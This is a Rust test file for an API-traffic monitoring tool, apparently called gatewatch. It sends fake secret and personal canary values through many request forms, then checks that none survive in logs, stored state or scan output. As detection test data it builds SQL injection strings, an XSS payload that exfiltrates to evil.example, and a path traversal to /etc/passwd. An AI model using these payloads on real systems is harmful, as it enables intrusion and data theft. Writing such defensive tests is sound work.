//! Values that stand for secrets and people, put into every spot of many exchanges: after the fold
//! and the journal's purge none of them is anywhere, neither as it was sent nor otherwise written.
//!
//! Exempt by design: addresses and principals of callers, which authorised roles are shown, and
//! names of members that look like names.

mod forms;

use std::fmt::Write as _;
use std::io::Read as _;
use std::path::Path;
use std::time::{Duration, Instant};

use gatewatch_model::{Partition, Stage};
use gatewatch_ports::store::Checkpoints as _;
use gatewatch_store::SqliteStore;
use serde_json::json;

use crate::running::{Running, gatewatch};
use forms::{forms, percent};

/// What upkeep takes to let a folded segment go.
const PURGED_WITHIN: Duration = Duration::from_secs(60);
const CALLERS: usize = 8;

/// A word that every caller sends and that is nobody's: it may be kept, and shows that what is kept
/// would be found.
const HARMLESS: &str = "quiet-heron";

/// Name of the member that would hold it, and the value.
const CANARIES: &[(&str, &str)] = &[
    ("card", "4539578763621486"),
    ("ssn", "536-90-4399"),
    ("email", "zebulon.quartermain@canary-mail.example"),
    (
        "jwt",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjYW5hcnktc3ViamVjdCJ9.c2lnbmF0dXJlLW9mLWNhbmFyeQ",
    ),
    ("aws", "AKIAZC4NARYC4NARYQ7X"),
    ("password", "Tr0ub4dor-and-zebra"),
    ("token", "k3J9vQ2mXw7LpR5tYb8NcD4f"),
    ("name", "Zebulon Quartermain"),
    ("phone", "+14155550173"),
    ("iban", "GB33BUKB20201555555555"),
];

#[test]
fn no_value_stays_anywhere() {
    let folder = tempfile::tempdir().unwrap();
    // All that can be logged is.
    let args = [
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--set",
        "log.level=trace",
    ];
    let server = Running::start(folder.path(), &args);
    server.ingest("canary/1", &(traffic() + &placed()));
    let told = all_answers(&server);
    let found = server.get("/api/v1/sensitive-data");
    let types = found["items"].as_array().unwrap().len();
    assert!(types >= 5, "what is not found proves nothing: {found}");
    let seen = server.get("/api/v1/signals");
    for class in ["sqli", "xss", "path-traversal"] {
        let classes = seen["items"].as_array().unwrap();
        let attacks = classes
            .iter()
            .find(|it| it["class"] == class)
            .map(|it| &it["attacks"]);
        assert!(
            attacks.and_then(serde_json::Value::as_u64) >= Some(CANARIES.len() as u64),
            "what is not seen proves nothing: {class}: {seen}"
        );
    }
    assert!(
        server.get("/api/v1/discoveries")["total"].as_u64() > Some(5),
        "{told}"
    );
    assert!(server.terminate().success());
    let server = Running::start(folder.path(), &args);
    purged(&server.folder.join("journal"));
    let told = told + &all_answers(&server);
    assert!(server.terminate().success());
    assert!(told.contains(HARMLESS), "{told}");
    let kept = std::fs::read(folder.path().join("data/gatewatch.db")).unwrap();
    assert!(memchr::memmem::find(&kept, HARMLESS.as_bytes()).is_some());
    let logged = std::fs::read(folder.path().join("standard-error")).unwrap();
    assert!(!logged.is_empty(), "the walk below searches the log too");
    let mut leaks = search("an answer", told.as_bytes());
    let states = states(&folder.path().join("data"));
    let kept = |it: &Vec<u8>| memchr::memmem::find(it, HARMLESS.as_bytes()).is_some();
    assert!(states.iter().any(kept), "states would be searched in vain");
    for state in states {
        leaks.extend(search("a state", &state));
    }
    walk(folder.path(), &mut leaks);
    let scanned = scanned(folder.path());
    leaks.extend(search("a scan", &scanned));
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

/// Every canary in every spot, by several callers; in paths, where callers make a name of a word,
/// by one.
fn traffic() -> String {
    let mut lines = String::new();
    for caller in 0..CALLERS {
        for (number, (name, value)) in CANARIES.iter().enumerate() {
            for mut request in requests(name, value) {
                request["caller"] = json!({ "ip": format!("203.0.113.{}", caller + 1) });
                let _ = writeln!(lines, "{request}");
            }
            if number % CALLERS == caller {
                let url = format!("https://shop.example/people/{}/orders", percent(value));
                let line = json!({
                    "caller": { "ip": format!("203.0.113.{}", caller + 1) },
                    "request": { "method": "GET", "url": url }, "response": { "status": 200 },
                });
                let _ = writeln!(lines, "{line}");
            }
        }
    }
    lines
}

fn requests(name: &str, value: &str) -> Vec<serde_json::Value> {
    let json_type = "application/json";
    let multipart = format!(
        "--b\r\ncontent-disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--b--\r\n"
    );
    let graphql = json!({
        "query": "mutation Save($it: String) { save(it: $it) { id } }", "variables": { name: value },
    });
    let mut all = vec![
        of(
            "GET",
            &format!("/search?{name}={}&q={}", percent(value), percent(value)),
            json_type,
            String::new(),
        ),
        of(
            "POST",
            "/form",
            "application/x-www-form-urlencoded",
            format!("{name}={}", percent(value)),
        ),
        of(
            "POST",
            "/parts",
            "multipart/form-data; boundary=b",
            multipart,
        ),
        of(
            "POST",
            "/json",
            json_type,
            json!({
                name: value, "note": value, "deep": [{ name: value }], "mood": HARMLESS,
                "count": value.parse::<u64>().ok(),
            })
            .to_string(),
        ),
        of(
            "POST",
            "/xml",
            "application/xml",
            format!("<a><{name}>{value}</{name}><b c=\"{value}\"/></a>"),
        ),
        of("POST", "/graphql", json_type, graphql.to_string()),
        of(
            "POST",
            "/keyed",
            json_type,
            json!({ "by": { "x": { name: value } } }).to_string(),
        ),
    ];
    if !matches!(name, "name" | "password") {
        // A name is a name: `Zebulon Quartermain` could be a member's.
        all.push(of(
            "POST",
            "/keyed",
            json_type,
            json!({ "by": { value: { "n": 1 } } }).to_string(),
        ));
    }
    all.push(heads(name, value));
    all.extend(attacks(value));
    all
}

/// Payloads that carry it: in query, header, cookie and body.
fn attacks(value: &str) -> [serde_json::Value; 2] {
    let json_type = "application/json";
    let union = format!("1' union select '{value}', password from users--");
    let script = format!("<script>fetch('//evil.example/?c={value}')</script>");
    let query = format!("/search?id={}&then={}", percent(&union), percent(&script));
    let mut attack = of("GET", &query, json_type, String::new());
    let headers = &mut attack["request"]["headers"];
    headers["x-filter"] = json!(union);
    headers["user-agent"] = json!(script);
    headers["cookie"] = json!(format!("basket={}", percent(&union)));
    let body = json!({ "filter": union, "deep": [{ "note": script }] });
    [attack, of("POST", "/json", json_type, body.to_string())]
}

/// Payloads in paths and as names of members: a scan, which keeps nothing, shows places as they came.
fn placed() -> String {
    let of_value = |(_, value): &(&str, &str)| {
        let path = format!("/files/..%2f..%2fetc%2fpasswd%00{}", percent(value));
        let climb = of("GET", &path, "application/json", String::new());
        let named = json!({ format!("1' union select '{value}', password from users--"): 1 });
        let named = of("POST", "/json", "application/json", named.to_string());
        format!("{climb}\n{named}\n")
    };
    CANARIES.iter().map(of_value).collect()
}

/// In headers and cookies of both messages, and in the answer.
fn heads(name: &str, value: &str) -> serde_json::Value {
    let mut heads = of("GET", "/heads", "application/json", String::new());
    let headers = &mut heads["request"]["headers"];
    for header in [&format!("x-{name}"), "x-note", "referer", "from"] {
        headers[header] = json!(value);
    }
    headers["authorization"] = json!(format!("Bearer {value}"));
    headers["cookie"] = json!(format!("{name}={value}; theme={value}"));
    heads["response"]["headers"]["set-cookie"] = json!(format!("{name}={value}; Path=/"));
    heads["response"]["headers"]["x-note"] = json!(value);
    heads["response"]["headers"]["location"] = json!(format!("/next?{name}={}", percent(value)));
    heads["response"]["body"] =
        json!(json!({ name: value, "note": value, "list": [value] }).to_string());
    heads
}

fn of(method: &str, path: &str, kind: &str, body: String) -> serde_json::Value {
    json!({
        "request": {
            "method": method, "url": format!("https://shop.example{path}"),
            "headers": { "content-type": kind, "host": "shop.example" }, "body": body,
        },
        "response": { "status": 200, "headers": { "content-type": "application/json" }, "body": "{}" },
    })
}

/// Everything that can be asked without a slot, and each endpoint with its profile.
pub fn all_answers(server: &Running) -> String {
    let mut told = String::new();
    let ask = |path: &str| {
        let token = server.token("read-token");
        server.request("GET", path, &token, &[], "").body
    };
    for path in [
        "/api/v1/collections",
        "/api/v1/endpoints?limit=1000&missed=any",
        "/api/v1/endpoints?format=csv&missed=any",
        "/api/v1/sensitive-data",
        "/api/v1/discoveries?limit=1000",
        "/api/v1/signals",
        "/api/v1/sources",
        "/api/v1/controls",
        "/api/v1/audit",
        "/api/v1/coverage",
        "/metrics",
    ] {
        told += &ask(path);
    }
    let endpoints = server.get("/api/v1/endpoints?limit=1000&missed=any");
    for endpoint in endpoints["items"].as_array().unwrap() {
        let id = endpoint["id"].as_str().unwrap();
        told += &ask(&format!("/api/v1/endpoints/{id}/profile"));
    }
    told
}

fn scanned(folder: &Path) -> Vec<u8> {
    let file = folder.join("captures.jsonl");
    std::fs::write(&file, traffic()).unwrap();
    let mut told = Vec::new();
    for format in ["jsonl", "json", "table", "html"] {
        let mut scan = gatewatch(folder);
        let out = scan.args(["scan", "--format", format]).arg(&file).output();
        told.extend(out.unwrap().stdout);
    }
    std::fs::remove_file(&file).unwrap();
    told
}

/// Waits until upkeep has let the folded segments go.
fn purged(journal: &Path) {
    let deadline = Instant::now() + PURGED_WITHIN;
    loop {
        let mut left = Vec::new();
        walk(journal, &mut left);
        let bytes: u64 = std::fs::read_dir(journal)
            .unwrap()
            .filter_map(|it| Some(it.ok()?.metadata().ok()?.len()))
            .sum();
        // Of all that was sent, compressed, some tens of kilobytes would be left.
        if left.is_empty() && bytes < 8 << 10 {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "{bytes} bytes are left: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The states of all partitions, as they are when they are put together and unpacked.
fn states(data: &Path) -> Vec<Vec<u8>> {
    let store = SqliteStore::open(data).unwrap();
    let all = Stage::ALL.into_iter();
    let all = all.flat_map(|stage| (0..16).map(move |it| (stage, Partition(it))));
    all.filter_map(|(stage, it)| store.load(stage, it).unwrap().snapshot)
        .map(|it| it.bytes)
        .collect()
}

/// What is packed in a file: everything that begins like a frame and can be unpacked.
fn unpacked(bytes: &[u8]) -> Vec<Vec<u8>> {
    const FRAME: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
    const BYTES_MAX: usize = 64 << 20;
    let starts = memchr::memmem::find_iter(bytes, FRAME);
    starts
        .filter_map(|at| {
            let mut out = Vec::new();
            let frame = zstd::Decoder::with_buffer(&bytes[at..])
                .ok()?
                .single_frame();
            // What is broken off half-way is searched as far as it goes.
            let _ = frame.take(BYTES_MAX as u64).read_to_end(&mut out);
            Some(out)
        })
        .collect()
}

fn walk(folder: &Path, leaks: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            walk(&path, leaks);
        } else if let Ok(bytes) = std::fs::read(&path) {
            let place = path.display().to_string();
            leaks.extend(search(&place, &bytes));
            for inner in unpacked(&bytes) {
                leaks.extend(search(&format!("{place}, unpacked"), &inner));
            }
        }
    }
}

/// Each canary that is there in any writing.
fn search(place: &str, bytes: &[u8]) -> Vec<String> {
    let mut leaks = Vec::new();
    for (name, value) in CANARIES {
        for (way, form) in forms(value) {
            if memchr::memmem::find(bytes, &form).is_some() {
                leaks.push(format!("{name} {way} in {place}"));
            }
        }
    }
    leaks
}

#[test]
fn what_is_packed_is_searched_too() {
    let folder = tempfile::tempdir().unwrap();
    // What comes first is written out, what comes again is only pointed to.
    let packed = zstd::bulk::compress(b"4539578763 578763621486 4539578763621486", 19).unwrap();
    let file = [b"before".as_slice(), &packed, b"after"].concat();
    std::fs::write(folder.path().join("segment"), file).unwrap();
    let mut leaks = Vec::new();
    walk(folder.path(), &mut leaks);
    let unpacked = |it: &String| it.starts_with("card as sent") && it.ends_with("unpacked");
    assert!(leaks.iter().any(unpacked), "{leaks:?}");
}
